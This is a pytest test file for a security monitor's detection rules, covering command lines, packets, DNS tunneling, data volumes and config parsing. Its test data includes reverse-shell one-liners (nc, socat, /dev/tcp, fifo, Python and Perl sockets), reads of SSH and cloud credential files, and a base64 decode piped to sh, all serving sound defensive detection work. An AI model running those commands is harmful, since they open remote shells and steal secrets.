"""Monitor detectors without a daemon: command lines, packets, DNS, volumes, config, netlink
message parsing."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest

from coi_tui.monitor import netlink, rules
from coi_tui.monitor.config import MonitorConfig, load_monitor_config

GW = "10.199.0.1"


def ids(argv: list[str], exe: str = "") -> set[str]:
    return {t.rule_id for t in rules.cmdline_threats(42, argv, exe)}


@pytest.mark.parametrize(
    ("argv", "rule"),
    [
        (["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "proc.netcat-exec"),
        (["ncat", "--sh-exec", "sh", "h", "1"], "proc.netcat-exec"),
        (["socat", "exec:bash -li,pty", "tcp:h:1"], "proc.socat-exec"),
        (["bash", "-c", "bash -i >& /dev/tcp/10.1.2.3/9001 0>&1"], "proc.dev-tcp"),
        (["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 >/tmp/f"],
         "proc.fifo-shell"),
        (["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('h',1));"
          "os.dup2(s.fileno(),0);pty.spawn('sh')"], "proc.interpreter-socket"),
        (["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,x);"
          "open(STDIN,'>&S');exec('/bin/sh -i')"], "proc.interpreter-socket"),
        (["env"], "cred.env-dump"),
        (["cat", "/proc/1/environ"], "cred.proc-environ"),
        (["cat", "/home/code/.ssh/id_ed25519"], "cred.ssh-key"),
        (["cp", "/root/.aws/credentials", "/tmp/x"], "cred.cloud-file"),
        (["grep", "-ri", "BEGIN RSA PRIVATE", "/"], "cred.secret-search"),
        (["find", "/", "-name", "id_rsa"], "cred.secret-search"),
        (["bash", "-c", "echo aWQK | base64 -d | sh"], "proc.decode-to-shell"),
    ],
)  # fmt: skip
def test_command_line_rules_fire(argv: list[str], rule: str) -> None:
    assert rule in ids(argv)


@pytest.mark.parametrize(
    "argv",
    [
        ["grep", "-rn", "/dev/tcp", "src"],
        ["rg", "socket.socket", "."],
        ["bash", "-c", "until (echo > /dev/tcp/localhost/5432); do sleep 1; done"],
        ["python3", "-c", "print({'a': [1, 2][:1]}, 'http://localhost:8000')"],
        ["python3", "-c", "import socket; print(socket.gethostname())"],
        ["env", "FOO=1", "make"],
        ["rsync", "-e", "ssh", "a", "b"],
        ["ssh", "-i", "/home/code/.ssh/id_ed25519", "host"],
        ["apt-get", "install", "socat"],
        ["grep", "-rn", "API_KEY", "src"],
        ["cat", "/proc/self/environ"],
        ["bash", "-i"],
    ],
)
def test_benign_command_lines_stay_quiet(argv: list[str]) -> None:
    found = rules.cmdline_threats(1, argv, "")
    assert [t.rule_id for t in found] == []


def packet(dst: str, dport: int, proto: int = 6, payload: bytes = b"") -> bytes:
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + 8 + len(payload), 0, 0, 64, proto, 0,
                     bytes([10, 199, 0, 9]), bytes(int(x) for x in dst.split(".")))  # fmt: skip
    return ip + struct.pack(">HHHH", 40000, dport, 8 + len(payload), 0) + payload


def dns_query(name: str) -> bytes:
    msg = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0)
    for label in name.split("."):
        msg += bytes([len(label)]) + label.encode()
    return msg + b"\0" + struct.pack(">HH", 16, 1)


@pytest.mark.parametrize(
    ("dst", "port", "rule", "level"),
    [
        ("169.254.169.254", 80, "net.metadata", "critical"),
        ("10.199.0.1", 4444, "net.c2-port", "critical"),
        ("192.0.2.10", 31337, "net.c2-port", "critical"),
        ("10.199.0.250", 8080, "net.private", "high"),
        ("172.16.5.5", 443, "net.private", "high"),
        ("192.0.2.53", 53, "dns.nonstandard-server", "warning"),
    ],
)
def test_packet_rules(dst: str, port: int, rule: str, level: str) -> None:
    pkt = rules.parse_packet(packet(dst, port, 17 if port == 53 else 6))
    assert pkt is not None and pkt.dst == dst and pkt.dport == port
    found = rules.packet_threats(pkt, MonitorConfig(), GW)
    assert [(t.rule_id, t.level) for t in found] == [(rule, level)]


def test_gateway_and_public_https_are_not_flagged() -> None:
    for dst, port in ((GW, 53), (GW, 8000), ("192.0.2.1", 443)):
        pkt = rules.parse_packet(packet(dst, port))
        assert pkt is not None
        assert rules.packet_threats(pkt, MonitorConfig(), GW) == []


def test_dns_parsing_rate_and_tunnel_labels() -> None:
    watch = rules.DnsWatch(MonitorConfig(dns_rate_per_min=5))
    pkt = rules.parse_packet(packet(GW, 53, 17, dns_query("www.example.org")))
    assert pkt is not None and pkt.dns_name == "www.example.org" and pkt.dns_type == 16
    levels = [t.rule_id for i in range(6) for t in watch.feed(pkt, float(i))]
    assert levels == ["dns.rate"]
    tunnel = rules.parse_packet(
        packet(GW, 53, 17, dns_query("mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi.t.example.org"))
    )
    assert tunnel is not None
    found = rules.DnsWatch(MonitorConfig()).feed(tunnel, 0.0)
    assert [(t.rule_id, t.level) for t in found] == [("dns.tunnel-label", "high")]
    plain = rules.parse_packet(packet(GW, 53, 17, dns_query("registry.npmjs.org")))
    assert plain is not None and rules.DnsWatch(MonitorConfig()).feed(plain, 0.0) == []


def test_volume_and_spawn_thresholds() -> None:
    watch = rules.RateWatch(2.0)
    assert watch.add(0.0, 0) == 0
    assert watch.add(1.0, 30 << 20) == 30 << 20
    assert watch.add(3.5, 40 << 20) == 10 << 20  # the 0 s sample left the window
    assert rules.volume_threats("read", 40 << 20, 2.0, 50, "read") == []
    (read,) = rules.volume_threats("read", 60 << 20, 2.0, 50, "read")
    assert read.rule_id == "fs.large-read" and read.level == "high"
    (sent,) = rules.volume_threats("send", 30 << 20, 10.0, 20, "send")
    assert sent.rule_id == "net.exfil-volume"
    assert rules.spawn_threat(100, 150) == []
    assert rules.spawn_threat(151, 150)[0].rule_id == "proc.spawn-storm"


def test_extra_config_from_monitor_toml(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COI_HOME", str(tmp_path))
    (tmp_path / "monitor.toml").write_text(
        "[monitoring]\ndedup_window_sec = 5\nc2_ports = [7777]\n"
        '[monitoring.actions]\nhigh = "alert"\n'
    )
    config = load_monitor_config()
    assert config.dedup_window_sec == 5.0 and config.c2_ports == [7777]
    assert config.actions["high"] == "alert" and config.actions["critical"] == "kill"
    (tmp_path / "monitor.toml").write_text('[monitoring.actions]\nhigh = "explode"\n')
    with pytest.raises(ValueError, match="explode"):
        load_monitor_config()


def test_proc_connector_message_parsing() -> None:
    def message(what: int, payload: bytes) -> bytes:
        body = netlink.CN_MSG.pack(1, 1, 0, 0, 16 + len(payload), 0)
        body += netlink.PROC_HDR.pack(what, 0, 0) + payload
        return netlink.NLMSG_HDR.pack(16 + len(body), 3, 0, 0, 0) + body

    data = message(netlink.PROC_EVENT_EXEC, struct.pack("=ii", 7, 7))
    data += message(netlink.PROC_EVENT_FORK, struct.pack("=iiii", 7, 7, 9, 9))
    data += message(netlink.PROC_EVENT_FORK, struct.pack("=iiii", 7, 7, 10, 9))  # a thread
    events = netlink.parse_proc_events(data)
    assert events == [netlink.ProcEvent("exec", 7), netlink.ProcEvent("fork", 9, 7)]


def test_nflog_message_parsing() -> None:
    attrs = netlink._nla(netlink.NFULA_PREFIX, b"coimon\0")
    attrs += netlink._nla(netlink.NFULA_IFINDEX_PHYSINDEV, struct.pack(">I", 362))
    attrs += netlink._nla(netlink.NFULA_PAYLOAD, packet(GW, 4444))
    body = struct.pack("=BBH", 2, 0, 0) + attrs
    data = netlink.NLMSG_HDR.pack(16 + len(body), (4 << 8) | 0, 0, 0, 0) + body
    (pkt,) = netlink.parse_nflog(data)
    assert pkt.prefix == "coimon" and pkt.physindev == 362
    parsed = rules.parse_packet(pkt.payload)
    assert parsed is not None and parsed.dport == 4444
